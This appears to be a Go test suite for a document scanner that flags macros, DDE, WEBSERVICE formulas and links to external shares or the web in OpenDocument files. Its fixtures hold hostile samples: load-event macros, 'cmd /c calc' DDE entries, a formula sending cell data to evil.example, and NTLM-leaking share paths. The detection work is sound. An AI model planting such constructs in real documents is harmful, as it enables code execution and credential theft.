package filetype

import (
	"bytes"
	"encoding/base64"
	"slices"
	"strings"
	"testing"
)

const (
	mimeODT = "application/vnd.oasis.opendocument.text"
	mimeODS = "application/vnd.oasis.opendocument.spreadsheet"
	// odfNS declares the namespaces LibreOffice declares on every part.
	odfNS       = `xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0" xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" xmlns:style="urn:oasis:names:tc:opendocument:xmlns:style:1.0" xmlns:meta="urn:oasis:names:tc:opendocument:xmlns:meta:1.0" xmlns:presentation="urn:oasis:names:tc:opendocument:xmlns:presentation:1.0" xmlns:form="urn:oasis:names:tc:opendocument:xmlns:form:1.0" xmlns:script="urn:oasis:names:tc:opendocument:xmlns:script:1.0" xmlns:xlink="http://www.w3.org/1999/xlink" xmlns:fo="urn:oasis:names:tc:opendocument:xmlns:xsl-fo-compatible:1.0" xmlns:svg="urn:oasis:names:tc:opendocument:xmlns:svg-compatible:1.0" xmlns:xforms="http://www.w3.org/2002/xforms" xmlns:grddl="http://www.w3.org/2003/g/data-view#" xmlns:of="urn:oasis:names:tc:opendocument:xmlns:of:1.2" office:version="1.3"`
	odfManifest = `<?xml version="1.0" encoding="UTF-8"?><manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0" manifest:version="1.3"><manifest:file-entry manifest:full-path="/" manifest:version="1.3" manifest:media-type="application/vnd.oasis.opendocument.text"/><manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"/><manifest:file-entry manifest:full-path="Pictures/a.png" manifest:media-type="image/png"/><manifest:file-entry manifest:full-path="Pictures/b.eps" manifest:media-type="application/postscript"/></manifest:manifest>`
)

// odfBody is a content.xml holding body in office:text (or what the
// body element is for the kind).
func odfBody(kind, body string) []byte {
	return []byte(`<?xml version="1.0" encoding="UTF-8"?><office:document-content ` + odfNS + ` grddl:transformation="http://docs.oasis-open.org/office/1.2/xslt/odf2rdf.xsl"><office:scripts/><office:body><office:` + kind + `>` + body + `</office:` + kind + `></office:body></office:document-content>`)
}

// odfFile is an OpenDocument package as LibreOffice writes one: the
// mimetype stored first, then the manifest, the content and extra
// members.
func odfFile(t testing.TB, mime string, content []byte, extra ...zent) []byte {
	ents := []zent{
		stored("mimetype", []byte(mime)),
		deflate("META-INF/manifest.xml", []byte(odfManifest)),
		deflate("content.xml", content),
		deflate("styles.xml", []byte(`<?xml version="1.0" encoding="UTF-8"?><office:document-styles `+odfNS+`><office:styles><style:style style:name="Standard" style:family="paragraph"><style:text-properties fo:color="#000000" style:font-name="'MS Mincho'"/></style:style></office:styles></office:document-styles>`)),
		deflate("meta.xml", []byte(`<?xml version="1.0" encoding="UTF-8"?><office:document-meta `+odfNS+`><office:meta><meta:generator>LibreOffice/7.6</meta:generator><meta:document-statistic meta:page-count="1"/></office:meta></office:document-meta>`)),
		deflate("settings.xml", []byte(`<?xml version="1.0" encoding="UTF-8"?><office:document-settings `+odfNS+` xmlns:config="urn:oasis:names:tc:opendocument:xmlns:config:1.0"><office:settings><config:config-item-set config:name="ooo:configuration-settings"><config:config-item config:name="LinkUpdateMode" config:type="short">1</config:config-item></config:config-item-set></office:settings></office:document-settings>`)),
		deflate("Configurations2/accelerator/current.xml", nil),
	}
	// An extra member of a name above takes its place.
	for _, x := range extra {
		i := slices.IndexFunc(ents, func(e zent) bool { return e.name == x.name })
		if i < 0 {
			ents = append(ents, x)
		} else {
			ents[i] = x
		}
	}
	return zipFile(t, ents...)
}

// A clean document: in-package pictures and objects, jumps within the
// document, web links, ordinary formulas, an EPS picture, a slide's
// next-page action.
var odfClean = `<text:p>議事録 <text:a xlink:type="simple" xlink:href="https://www.city.example.lg.jp/">市</text:a> <text:a xlink:href="#__RefHeading___Toc1">目次</text:a></text:p>` +
	`<draw:frame><draw:image xlink:href="Pictures/a.png" xlink:type="simple" xlink:actuate="onLoad"/></draw:frame>` +
	`<draw:frame><draw:image xlink:href="./Pictures/b.eps"/></draw:frame>` +
	`<draw:frame><draw:object xlink:href="./Object 1" xlink:actuate="onLoad"/></draw:frame>` +
	`<draw:frame><draw:image><office:binary-data>iVBORw0KGgo=</office:binary-data></draw:image></draw:frame>` +
	`<draw:custom-shape><office:event-listeners><presentation:event-listener script:event-name="dom:click" presentation:action="next-page"/></office:event-listeners></draw:custom-shape>` +
	`<table:table><table:table-row><table:table-cell table:formula="of:=SUM([.A1:.A3])+[$'Sheet 2'.B1]" office:value-type="float" office:value="6"/>` +
	`<table:table-cell table:formula="of:=HYPERLINK(&quot;https://www.city.example.lg.jp/a&quot;; &quot;市&quot;)" office:value-type="string" office:string-value="https://www.city.example.lg.jp/a"/>` +
	`<table:table-cell table:formula="of:=IF(ISNA([.B1]);&quot;'x'#$y&quot;;#N/A)"/></table:table-row></table:table>`

// odfSVGFrame shows the picture Pictures/1.svg, as LibreOffice writes
// an inserted SVG (with a PNG fallback).
const odfSVGFrame = `<draw:frame><draw:image xlink:href="Pictures/1.svg"/><draw:image xlink:href="Pictures/2.png"/></draw:frame>`

// xmlDecl starts the XML parts built here.
const xmlDecl = `<?xml version="1.0" encoding="UTF-8"?>`

// svgImage is an SVG picture drawing the image at href.
func svgImage(href string) []byte {
	return []byte(xmlDecl + `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="10" height="10"><image x="0" y="0" width="10" height="10" xlink:href="` + href + `"/></svg>`)
}

// TestODF: an OpenDocument file is read for what it runs and fetches
// (red team: an ODT running an installed macro on load, one fetching an
// image from \\host\share), each a finding that blocks keeping it; a
// clean one has none, and one that cannot be read to the end is not
// inspected.
func TestODF(t *testing.T) {
	odt := func(body string, extra ...zent) []byte { return odfFile(t, mimeODT, odfBody("text", body), extra...) }
	ods := func(cell string, extra ...zent) []byte {
		return odfFile(t, mimeODS, odfBody("spreadsheet", `<table:table><table:table-row>`+cell+`</table:table-row></table:table>`), extra...)
	}
	linked := func(what string) []string { return []string{ODFLinked + " " + what + " in content.xml"} }
	macro := func(what string) []string {
		return []string{ODFMacro + " " + what + " in content.xml", "office: macros"}
	}
	cases := []classifyCase{
		{name: "clean text document", data: odt(odfClean), filename: "議事録.odt",
			class: ClassOffice, sniffed: mimeODT, clean: true},
		{name: "clean spreadsheet", data: ods(`<table:table-cell table:formula="of:=SUM([.A1:.A3])" office:value-type="float" office:value="6"/>`), filename: "集計.ods",
			class: ClassOffice, sniffed: mimeODS, clean: true},

		// Macros.
		{name: "Basic library of a subdocument", data: odt("", deflate("Object 1/Basic/Standard/Module1.xml", []byte(`<script:module/>`))), filename: "a.odt",
			class: ClassOffice, findings: []string{"office: macros"}},
		{name: "macro bound to the load event", data: odt(`<text:p/>`, deflate("content.xml", []byte(`<office:document-content `+odfNS+`><office:scripts><office:event-listeners><script:event-listener script:language="ooo:script" script:event-name="dom:load" xlink:href="vnd.sun.star.script:Standard.Module1.Main?language=Basic&amp;location=application"/></office:event-listeners></office:scripts></office:document-content>`))), filename: "a.odt",
			class: ClassOffice, findings: macro("script:event-listener")},
		{name: "event listener in another namespace", data: odt(`<x:event-listener xmlns:x="urn:example" x:href="macro:///Standard.Module1.Main"/>`), filename: "a.odt",
			class: ClassOffice, findings: macro("a name")},
		{name: "inline script", data: odt(`<office:script script:language="ooo:Basic">Shell("calc")</office:script>`), filename: "a.odt",
			class: ClassOffice, findings: macro("office:script")},
		{name: "form button bound to a macro", data: odt(`<office:forms><form:form><form:button form:id="b"><office:event-listeners><script:event-listener script:event-name="form:performaction" script:macro-name="Standard.Module1.Main"/></office:event-listeners></form:button></form:form></office:forms>`), filename: "a.odt",
			class: ClassOffice, findings: macro("script:event-listener")},
		{name: "link running a macro", data: odt(`<text:p><text:a xlink:href=" vnd.sun.star.script:Standard.Module1.Main?language=Basic">x</text:a></text:p>`), filename: "a.odt",
			class: ClassOffice, findings: macro("text:a xlink:href (a macro)")},
		{name: "slide action running a program", data: odt(`<draw:custom-shape><office:event-listeners><presentation:event-listener script:event-name="dom:click" presentation:action="execute" xlink:href="file:///C:/Windows/System32/cmd.exe"/></office:event-listeners></draw:custom-shape>`), filename: "a.odt",
			class: ClassOffice, findings: macro("presentation:event-listener (execute)")},
		{name: "java applet", data: odt(`<draw:frame><draw:applet draw:code="A.class" xlink:href="Pictures/"/></draw:frame>`), filename: "a.odt",
			class: ClassOffice, findings: macro("draw:applet")},
		{name: "manifest lists a script", data: odt("", deflate("META-INF/manifest.xml", []byte(`<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0"><manifest:file-entry manifest:full-path="Object 1/Scripts/python/a.py" manifest:media-type=""/></manifest:manifest>`))), filename: "a.odt",
			class: ClassOffice, findings: []string{ODFMacro + " manifest:file-entry (scripts) in META-INF/manifest.xml"}},

		// Content from outside.
		{name: "image on a share (NTLM)", data: odt(`<draw:frame><draw:image xlink:href="\\evil.example\s\a.png" xlink:actuate="onLoad"/></draw:frame>`), filename: "a.odt",
			class: ClassOffice, findings: linked("draw:image xlink:href (a network share)")},
		{name: "image from the web, percent-encoded", data: odt(`<draw:frame><draw:image xlink:href="http%3A//evil.example/a.png"/></draw:frame>`), filename: "a.odt",
			class: ClassOffice, findings: linked("draw:image xlink:href (a path outside the package)")},
		{name: "image beside the file", data: odt(`<draw:frame><draw:image xlink:href="Pictures/%2e%2e/../a.png"/></draw:frame>`), filename: "a.odt",
			class: ClassOffice, findings: linked("draw:image xlink:href (a path outside the package)")},
		{name: "OLE object on a share", data: odt(`<draw:frame><draw:object-ole xlink:href="file://evil.example/s/a.xls"/></draw:frame>`), filename: "a.odt",
			class: ClassOffice, findings: linked("draw:object-ole xlink:href (a file)")},
		{name: "linked section", data: odt(`<text:section text:name="s"><text:section-source xlink:href="../b.odt" text:section-name="x"/></text:section>`), filename: "a.odt",
			class: ClassOffice, findings: linked("text:section-source")},
		{name: "background image in a style", data: odt("", deflate("styles.xml", []byte(`<office:document-styles `+odfNS+`><office:styles><style:style style:name="s"><style:paragraph-properties><style:background-image xlink:href="https://evil.example/t.png"/></style:paragraph-properties></style:style></office:styles></office:document-styles>`))), filename: "a.odt",
			class: ClassOffice, findings: []string{ODFLinked + " style:background-image xlink:href (the web) in styles.xml"}},
		{name: "shortcut opening a share", data: odt("", deflate("Configurations2/accelerator/current.xml", []byte(`<?xml version="1.0" encoding="UTF-8"?><accel:acceleratorlist xmlns:accel="http://openoffice.org/2001/accel" xmlns:xlink="http://www.w3.org/1999/xlink"><accel:item accel:code="KEY_S" accel:mod1="true" xlink:href=".uno:Open?URL:string=file:%2F%2Fevil.example/s/x.odt"/></accel:acceleratorlist>`))), filename: "a.odt",
			class: ClassOffice, findings: []string{ODFLinked + " accel:item xlink:href (a command opening a file) in Configurations2/accelerator/current.xml"}},
		{name: "menu item opening the web, and one applying a style", data: odt("", deflate("Configurations2/menubar/menubar.xml", []byte(`<menu:menubar xmlns:menu="http://openoffice.org/2001/menu"><menu:menu menu:id=".uno:PickList"><menu:menupopup><menu:menuitem menu:id=".uno:StyleApply?Style:string=Heading 1&amp;FamilyName:string=ParagraphStyles"/><menu:menuitem menu:id="slot:5501?URL:string=https://evil.example/x.odt" menu:label="保存"/></menu:menupopup></menu:menu></menu:menubar>`))), filename: "a.odt",
			class: ClassOffice, findings: []string{ODFLinked + " menu:menuitem menu:id (a command opening the web) in Configurations2/menubar/menubar.xml"}},
		{name: "template on a share", data: odt("", deflate("meta.xml", []byte(`<office:document-meta `+odfNS+`><office:meta><meta:template xlink:type="simple" xlink:href="//evil.example/s/t.ott" xlink:title="t"/></office:meta></office:document-meta>`))), filename: "a.odt",
			class: ClassOffice, findings: []string{ODFLinked + " meta:template xlink:href (a network share) in meta.xml"}},
		{name: "DDE field", data: odt(`<text:dde-connection-decls><text:dde-connection-decl office:name="x" office:dde-application="cmd" office:dde-topic="/c calc" office:dde-item="x"/></text:dde-connection-decls>`), filename: "a.odt",
			class: ClassOffice, findings: linked("text:dde-connection-decl (DDE)")},
		{name: "XForms instance from the web", data: odt(`<office:forms><xforms:model><xforms:instance src="https://evil.example/i.xml"/></xforms:model></office:forms>`), filename: "a.odt",
			class: ClassOffice, findings: linked("xforms:instance src (the web)")},
		{name: "button image from a share, as a property", data: odt(`<office:forms><form:form form:name="f"><form:button form:id="b"><form:properties><form:property form:property-name="ImageURL" office:value-type="string" office:string-value="file://evil.example/s/a.png"/></form:properties></form:button></form:form></office:forms>`), filename: "a.odt",
			class: ClassOffice, findings: linked("form:property office:string-value (a file)")},
		{name: "XForms submission to a CMIS server", data: odt(`<office:forms><xforms:model><xforms:submission xforms:id="s" action="vnd.libreoffice.cmis://evil.example/x" method="put"/></xforms:model></office:forms>`), filename: "a.odt",
			class: ClassOffice, findings: linked("xforms:submission action (a URL)")},
		{name: "button image in another file on a share, as a property", data: odt(`<office:forms><form:form><form:button form:id="b"><form:properties><form:property form:property-name="ImageURL" office:value-type="string" office:string-value="vnd.sun.star.pkg://file:%2F%2Fevil.example%2Fs%2Fb.odt/Pictures/a.png"/></form:properties></form:button></form:form></office:forms>`), filename: "a.odt",
			class: ClassOffice, findings: linked("form:property office:string-value (a URL)")},
		{name: "form bound to a database", data: odt(`<office:forms><form:form form:name="f" form:datasource="Bibliography" form:command="biblio" form:command-type="table"/></office:forms>`), filename: "a.odt",
			class: ClassOffice, findings: linked("form:form form:datasource")},
		// LibreOffice loads a database field's source when the fields
		// update: a name it has not registered is taken for a URL.
		{name: "database field naming a database on a share", data: odt(`<text:p><text:database-display text:database-name="file:///\\192.0.2.1\s\a.odb" text:table-name="t" text:table-type="table" text:column-name="name">x</text:database-display></text:p>`), filename: "a.odt",
			class: ClassOffice, findings: linked("text:database-display text:database-name (a file)")},
		{name: "database fields naming a registered source", data: odt(`<text:p><text:database-next text:database-name="Addresses" text:table-name="t" text:table-type="table"/><text:database-row-number text:database-name="Addresses" text:table-name="t" text:value="1">1</text:database-row-number></text:p>`), filename: "a.odt",
			class: ClassOffice, findings: []string{ODFLinked + " text:database-next text:database-name (a registered data source or a URL) in content.xml", ODFLinked + " text:database-row-number text:database-name (a registered data source or a URL) in content.xml"}},
		{name: "database field with its source as a connection resource", data: odt(`<text:p><text:database-name text:table-name="t" text:table-type="table"><form:connection-resource xlink:href="sdbc:mysql://192.0.2.1/db"/>db</text:database-name></text:p>`), filename: "a.odt",
			class: ClassOffice, findings: linked("form:connection-resource")},
		{name: "list property value naming a share", data: odt(`<office:forms><form:form><form:listbox form:id="l"><form:properties><form:list-property form:property-name="StringItemList" office:value-type="string"><form:list-value office:string-value="\\192.0.2.1\s\a.png"/></form:list-property></form:properties></form:listbox></form:form></office:forms>`), filename: "a.odt",
			class: ClassOffice, findings: linked("form:list-value office:string-value (a network share)")},
		{name: "property value as text naming the web", data: odt(`<office:forms><form:form><form:button form:id="b"><form:properties><form:property form:property-name="ImageURL"><form:property-value>https://evil.example/a.png</form:property-value></form:property></form:properties></form:button></form:form></office:forms>`), filename: "a.odt",
			class: ClassOffice, findings: linked("form:property-value (the web)")},
		// Its text read whole: a comment or a CDATA section splits it
		// into tokens, and blanks before it are skipped, not counted.
		{name: "property value as text split by a comment", data: odt(`<office:forms><form:form><form:button form:id="b"><form:properties><form:property form:property-name="ImageURL"><form:property-value>\<!-- -->\192.0.2.1\s\a.png</form:property-value></form:property></form:properties></form:button></form:form></office:forms>`), filename: "a.odt",
			class: ClassOffice, findings: linked("form:property-value (a network share)")},
		{name: "property value as text split by a CDATA section", data: odt(`<office:forms><form:form><form:button form:id="b"><form:properties><form:property form:property-name="ImageURL"><form:property-value>ht<![CDATA[tps://evil.example/a.png]]></form:property-value></form:property></form:properties></form:button></form:form></office:forms>`), filename: "a.odt",
			class: ClassOffice, findings: linked("form:property-value (the web)")},
		{name: "property value as text after 5000 blanks", data: odt(`<office:forms><form:form><form:button form:id="b"><form:properties><form:property form:property-name="ImageURL"><form:property-value>` + strings.Repeat(" \n", 2500) + `https://evil.example/a.png</form:property-value></form:property></form:properties></form:button></form:form></office:forms>`), filename: "a.odt",
			class: ClassOffice, findings: linked("form:property-value (the web)")},
		{name: "clean, list property values as text", data: odt(`<office:forms><form:form><form:listbox form:id="l"><form:properties><form:list-property form:property-name="StringItemList" office:value-type="string"><form:list-value office:string-value="総務課"/><form:list-value office:string-value="企画課"/></form:list-property></form:properties></form:listbox></form:form></office:forms>`), filename: "a.odt",
			class: ClassOffice, sniffed: mimeODT, clean: true},
		{name: "sheet linked from a share", data: ods(`</table:table-row><table:table-source xlink:href="file:///\\evil\s\b.ods" table:table-name="Sheet1"/><table:table-row>`), filename: "a.ods",
			class: ClassOffice, findings: linked("table:table-source")},
		{name: "cell range linked from another file", data: ods(`<table:table-cell><table:cell-range-source table:name="r" xlink:href="b.ods" table:filter-name="calc8" table:last-column-spanned="1" table:last-row-spanned="1"/></table:table-cell>`), filename: "a.ods",
			class: ClassOffice, findings: linked("table:cell-range-source")},
		{name: "WEBSERVICE formula", data: ods(`<table:table-cell table:formula="of:=COM.MICROSOFT.WEBSERVICE(&quot;http://evil.example/?&quot;&amp;[.A1])"/>`), filename: "a.ods",
			class: ClassOffice, findings: linked("table:table-cell table:formula (WEBSERVICE)")},
		{name: "DDE formula", data: ods(`<table:table-cell table:formula="of:=DDE (&quot;cmd&quot;;&quot;/c calc&quot;;&quot;x&quot;)"/>`), filename: "a.ods",
			class: ClassOffice, findings: linked("table:table-cell table:formula (DDE)")},
		{name: "reference to another file", data: ods(`<table:table-cell table:formula="of:=['file:///\\evil\s\b.ods'#$Sheet1.A1]"/>`), filename: "a.ods",
			class: ClassOffice, findings: linked("table:table-cell table:formula (a reference to another file)")},
		{name: "reference to a file on a share, as a sheet", data: ods(`<table:table-cell table:formula="of:=[$'\\evil\s\b.ods'.A1]"/>`), filename: "a.ods",
			class: ClassOffice, findings: linked("table:table-cell table:formula (a reference to another file)")},
		{name: "reference to a URL, as a sheet", data: ods(`<table:table-cell table:formula="of:=SUM(['file:///C:/Users/Public/b.ods'.A1:.B2])"/>`), filename: "a.ods",
			class: ClassOffice, findings: linked("table:table-cell table:formula (a reference to another file)")},
		{name: "sheets named with a dot and a quote", data: ods(`<table:table-cell table:formula="of:=['R6.4'.A1]+[$'It''s'.B1]+LEN(&quot;'\\s\x'.A1&quot;)"/>`), filename: "a.ods",
			class: ClassOffice, clean: true},
		{name: "DDE in Excel's grammar", data: ods(`<table:table-cell xmlns:msoxl="http://schemas.microsoft.com/office/excel/formula" table:formula="msoxl:=cmd|'/c calc'!A1"/>`), filename: "a.ods",
			class: ClassOffice, findings: []string{RunningFormula + " (DDE) in content.xml"}},
		{name: "another workbook in Excel's grammar, under the prefix of", data: ods(`<table:table-cell xmlns:of="http://schemas.microsoft.com/office/excel/formula" table:formula="of:=SUM('\\evil\s\[b.xlsx]Sheet1'!A1:B2)"/>`), filename: "a.ods",
			class: ClassOffice, findings: []string{RunningFormula + " (another workbook) in content.xml"}},
		{name: "clean formulas in Excel's grammar, and a prefix out of scope", data: ods(`<table:table-cell xmlns:msoxl="http://schemas.microsoft.com/office/excel/formula" table:formula="msoxl:=SUM(A1:A3)&amp;Sheet2!B1"/><table:table-cell table:formula="msoxl:=[.A1]"/>`), filename: "a.ods",
			class: ClassOffice, clean: true},
		{name: "INDIRECT", data: ods(`<table:table-cell table:formula="of:=INDIRECT([.A1])"/>`), filename: "a.ods",
			class: ClassOffice, findings: linked("table:table-cell table:formula (INDIRECT)")},

		// Subdocuments and objects, and a document in an archive.
		{name: "embedded subdocument linking an image", data: odt(odfClean, deflate("Object 1/content.xml", odfBody("drawing", `<draw:page><draw:frame><draw:image xlink:href="smb://evil.example/s/a.png"/></draw:frame></draw:page>`))), filename: "a.odt",
			class: ClassOffice, findings: []string{ODFLinked + " draw:image xlink:href (a URL) in Object 1/content.xml"}},
		{name: "chart naming the document holding it", data: ods(``, deflate("Object 1/content.xml", []byte(`<office:document-content `+odfNS+` xmlns:chart="urn:oasis:names:tc:opendocument:xmlns:chart:1.0"><office:body><office:chart><chart:chart xlink:href=".." xlink:type="simple" chart:class="chart:bar"><chart:plot-area table:cell-range-address="Sheet1.A1:Sheet1.B3"/></chart:chart></office:chart></office:body></office:document-content>`))), filename: "a.ods",
			class: ClassOffice, clean: true},
		{name: "subdocument's image beside the file", data: odt(odfClean, deflate("Object 1/content.xml", odfBody("drawing", `<draw:page><draw:frame><draw:image xlink:href="./../Pictures/../../a.png"/></draw:frame></draw:page>`))), filename: "a.odt",
			class: ClassOffice, findings: []string{ODFLinked + " draw:image xlink:href (a path outside the package) in Object 1/content.xml"}},
		{name: "SVG picture drawing an image from a share", data: odt(odfSVGFrame, deflate("Pictures/1.svg", svgImage(`file://evil.example/s/a.png`))), filename: "a.odt",
			class: ClassOffice, findings: []string{ODFLinked + " svg:image xlink:href (a file) in Pictures/1.svg"}},
		{name: "SVG picture named .png", data: odt(odfSVGFrame, deflate("Pictures/1.png", append([]byte("\xef\xbb\xbf\n<!-- Generator -->"), svgImage(`\\evil.example\s\a.png`)...))), filename: "a.odt",
			class: ClassOffice, findings: []string{ODFLinked + " svg:image xlink:href (a network share) in Pictures/1.png"}},
		{name: "SVGZ picture", data: odt(odfSVGFrame, stored("Pictures/1.svgz", gzipOf(t, "", svgImage(`https://evil.example/a.png`)))), filename: "a.odt",
			class: ClassArchive, findings: []string{ODFLinked + " svg:image xlink:href (the web) in Pictures/1.svgz"}},
		{name: "SVG picture with its own pixels, and RDF metadata", data: odt(odfSVGFrame, deflate("Pictures/1.svg", svgImage(`data:image/png;base64,iVBORw0KGgo=`)), deflate("manifest.rdf", []byte(`<?xml version="1.0" encoding="utf-8"?><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"><rdf:Description rdf:about="content.xml"><rdf:type rdf:resource="http://docs.oasis-open.org/ns/office/1.2/meta/odf#ContentFile"/></rdf:Description></rdf:RDF>`)), stored("Pictures/2.png", pngImage(t))), filename: "a.odt",
			class: ClassOffice, clean: true},
		{name: "SVG picture inline in the XML", data: odt(`<draw:frame><draw:image><office:binary-data>` + "\n  " + base64.StdEncoding.EncodeToString(svgImage(`file://evil.example/s/a.png`)) + `</office:binary-data></draw:image></draw:frame>`), filename: "a.odt",
			class: ClassOffice, findings: []string{ODFNotInspected + " content.xml: a picture's markup inline in the XML (office:binary-data)"}},
		{name: "SVG picture with the W3C's DOCTYPE", data: odt(odfSVGFrame, deflate("Pictures/1.svg", append([]byte(`<?xml version="1.0" encoding="UTF-8"?><!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">`), bytes.TrimPrefix(svgImage(`data:image/png;base64,iVBORw0KGgo=`), []byte(xmlDecl))...))), filename: "a.odt",
			class: ClassOffice, clean: true},
		{name: "SVG picture with a DTD on a share", data: odt(odfSVGFrame, deflate("Pictures/1.svg", append([]byte(`<?xml version="1.0" encoding="UTF-8"?><!DOCTYPE svg SYSTEM "file://evil.example/s/svg.dtd">`), bytes.TrimPrefix(svgImage(`data:image/png;base64,iVBORw0KGgo=`), []byte(xmlDecl))...))), filename: "a.odt",
			class: ClassOffice, findings: []string{ODFNotInspected + " Pictures/1.svg: DTD"}},
		{name: "SVG picture inline in an SVG picture", data: odt(odfSVGFrame, deflate("Pictures/1.svg", svgImage(`data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=`))), filename: "a.odt",
			class: ClassOffice, findings: []string{ODFNotInspected + " Pictures/1.svg: an SVG picture inline in another"}},
		{name: "document in an archive", data: zipFile(t, deflate("資料/a.odt", odt(`<draw:frame><draw:image xlink:href="\\evil\s\a.png"/></draw:frame>`))), filename: "a.zip",
			class: ClassArchive, findings: []string{ODFLinked + " draw:image xlink:href (a network share) in 資料/a.odt/content.xml"}},
		{name: "clean document in an archive", data: zipFile(t, deflate("資料/a.odt", odt(odfClean))), filename: "a.zip",
			class: ClassArchive, clean: true},

		// Links.
		{name: "hyperlink to a share", data: odt(`<text:p><text:a xlink:href="\\evil\s\x.odt">x</text:a></text:p>`), filename: "a.odt",
			class: ClassOffice, findings: []string{"office: link to a network share (UNC path) in content.xml"}},
		{name: "hyperlink to a file beside it", data: odt(`<text:p><draw:a xlink:href="../x.odt"><draw:frame/></draw:a></text:p>`), filename: "a.odt",
			class: ClassOffice, findings: []string{"office: link to a relative target (no scheme: opened as a file) in content.xml"}},
		{name: "HYPERLINK formula to a program", data: ods(`<table:table-cell table:formula="of:=HYPERLINK(&quot;ms-word:ofe|u|file:///C:/a.doc&quot;)"/>`), filename: "a.ods",
			class: ClassOffice, findings: []string{"office: link to a program (ms-word:) in content.xml"}},
		// As the workbook reader takes one (formulaCall): a web or
		// phone link's scheme written, what follows computed.
		{name: "HYPERLINK formula, a web address with a computed query", data: ods(`<table:table-cell table:formula="of:=HYPERLINK(&quot;https://www.city.example.lg.jp/?q=&quot; &amp; [.A1]; &quot;市&quot;)"/>`), filename: "a.ods",
			class: ClassOffice, sniffed: mimeODS, clean: true},
		{name: "HYPERLINK formula, a share with a computed name", data: ods(`<table:table-cell table:formula="of:=HYPERLINK(&quot;\\192.0.2.1\s\&quot;&amp;[.A1])"/>`), filename: "a.ods",
			class: ClassOffice, findings: []string{odfLinkUnread + " HYPERLINK in content.xml"}},
		{name: "HYPERLINK formula, a mail address with a computed rest", data: ods(`<table:table-cell table:formula="of:=HYPERLINK(&quot;mailto:a@example.jp?attach=&quot;&amp;[.A1])"/>`), filename: "a.ods",
			class: ClassOffice, findings: []string{odfLinkUnread + " HYPERLINK in content.xml"}},
		{name: "HYPERLINK formula, computed target", data: ods(`<table:table-cell table:formula="of:=HYPERLINK(&quot;fi&quot;&amp;&quot;le:///C:/x&quot;)"/>`), filename: "a.ods",
			class: ClassOffice, findings: []string{odfLinkUnread + " HYPERLINK in content.xml"}},

		// What cannot be read.
		{name: "encrypted", data: odt("", deflate("META-INF/manifest.xml", []byte(`<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0"><manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"><manifest:encryption-data manifest:checksum-type="SHA1/1K"/></manifest:file-entry></manifest:manifest>`)), deflate("content.xml", []byte("\x8f\x01\xfe garbage"))), filename: "a.odt",
			class: ClassEncryptedArchive, enc: true, findings: []string{"office: encrypted document"}},
		{name: "content not XML", data: odt("", deflate("content.xml", []byte(`<office:document-content><text:p>`))), filename: "a.odt",
			class: ClassOffice, findings: []string{ODFNotInspected + " content.xml: XML syntax error on line 1: unexpected EOF"}},
		{name: "content with a DTD", data: odt("", deflate("content.xml", []byte(`<!DOCTYPE x [<!ENTITY h "\\evil\s\a.png">]><office:document-content `+odfNS+`><draw:image xlink:href="&h;"/></office:document-content>`))), filename: "a.odt",
			class: ClassOffice, findings: []string{ODFNotInspected + " content.xml: DTD"}},
		{name: "content in Shift_JIS", data: odt("", deflate("content.xml", []byte(`<?xml version="1.0" encoding="Shift_JIS"?><office:document-content/>`))), filename: "a.odt",
			class: ClassOffice, findings: []string{ODFNotInspected + ` content.xml: xml: opening charset "Shift_JIS": charset Shift_JIS`}},
		{name: "no content", data: zipFile(t, stored("mimetype", []byte(mimeODT)), deflate("META-INF/manifest.xml", []byte(odfManifest))), filename: "a.odt",
			class: ClassOffice, findings: []string{ODFNotInspected + " (no content.xml)"}},
		{name: "inline OLE object", data: odt(`<draw:frame><draw:object-ole><office:binary-data>0M8R4KGxGuE=</office:binary-data></draw:object-ole></draw:frame>`), filename: "a.odt",
			class: ClassOffice, findings: []string{ODFNotInspected + " content.xml: an object inline in the XML (office:binary-data)"}},
		{name: "content over the limits", data: odt(strings.Repeat("<text:p>議事録</text:p>", 20000)), filename: "a.odt", lim: Limits{MaxTotal: 300 << 10},
			class: ClassArchive, findings: []string{ODFNotInspected + " content.xml: over the limits"}},
	}
	runClassify(t, cases)
}

// TestHyperlinkArgComputed: an OpenDocument HYPERLINK whose target is
// computed counts as a link only when the string it starts with has an
// http, https or tel scheme as written (a web or phone link whatever
// follows); any other start, one a reader might take otherwise, is not
// inspected (unread), never a link.
func TestHyperlinkArgComputed(t *testing.T) {
	for _, tc := range []struct {
		formula string
		links   []string
		unread  bool
	}{
		{`of:=HYPERLINK("https://x/?q="&[.A1])`, []string{"https://x/?q="}, false},
		{"of:=HYPERLINK(\t\"HTTPS://x/\"\r\n&\n[.A1];\"t\")", []string{"HTTPS://x/"}, false},
		{`of:=HYPERLINK("tel:"&[.A1])`, []string{"tel:"}, false},
		// The scheme split, or hidden behind blanks or other letters.
		{`of:=HYPERLINK("ht"&"tp://x/")`, nil, true},
		{`of:=HYPERLINK("https"&"://x/")`, nil, true},
		{`of:=HYPERLINK(" https://x/"&[.A1])`, nil, true},
		{`of:=HYPERLINK("ｈｔｔｐｓ://x/"&[.A1])`, nil, true},
		{`of:=HYPERLINK("\\host\s\"&[.A1])`, nil, true},
		{`of:=HYPERLINK("file:///C:/"&[.A1])`, nil, true},
		{`of:=HYPERLINK("mailto:a@example.jp"&"?attach=C:\x")`, nil, true},
		{`of:=HYPERLINK(""&"https://x/")`, nil, true},
		// A string then another operator than '&'.
		{`of:=HYPERLINK("https://x/"+[.A1])`, nil, true},
		{`of:=HYPERLINK([.A1]&"https://x/")`, nil, true},
	} {
		f := scanFormula(tc.formula)
		if !slices.Equal(f.links, tc.links) || f.unread != tc.unread {
			t.Errorf("%s: links %q unread %v, want %q %v", tc.formula, f.links, f.unread, tc.links, tc.unread)
		}
	}
}
